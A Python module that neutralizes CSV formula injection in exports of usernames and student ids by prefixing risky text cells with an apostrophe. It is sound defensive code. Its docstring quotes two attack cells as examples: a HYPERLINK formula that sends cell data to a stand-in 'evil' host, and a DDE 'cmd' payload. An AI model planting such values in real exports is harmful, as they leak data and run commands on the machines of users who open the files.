"""CSV exports that a spreadsheet opens as data, never as formulas.

Names in our exports come from users (hub usernames, nbgrader student ids and names): a cell
such as ``=HYPERLINK("http://evil/?"&A1,"grades")`` or ``+cmd|' /C calc'!A0`` runs when the
file is opened in Excel, LibreOffice or Google Sheets. OWASP's rule (CSV injection): a text
cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a leading ``'``,
which spreadsheets show as text; the csv module quotes what needs quoting.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Mapping, Sequence
from typing import Any

#: What makes a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralize(cell: Any) -> Any:
    """A text cell that would start a formula, prefixed with ``'``; numbers stay numbers."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def csv_chunks(
    fieldnames: Sequence[str], rows: Iterable[Mapping[str, Any]], rows_per_chunk: int = 1000
) -> Iterator[str]:
    """A header and ``rows`` as CSV, every text cell neutralized, ``rows_per_chunk`` rows a
    piece: an export streams them, so its size in memory does not grow with the rows."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=fieldnames)
    writer.writeheader()
    batch = 0
    for row in rows:
        writer.writerow({key: neutralize(value) for key, value in row.items()})
        batch += 1
        if batch == rows_per_chunk:
            yield out.getvalue()
            out.seek(0)
            out.truncate()
            batch = 0
    if out.tell():
        yield out.getvalue()


def csv_text(fieldnames: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> str:
    """A header and ``rows`` as CSV, every text cell neutralized."""
    return "".join(csv_chunks(fieldnames, rows))
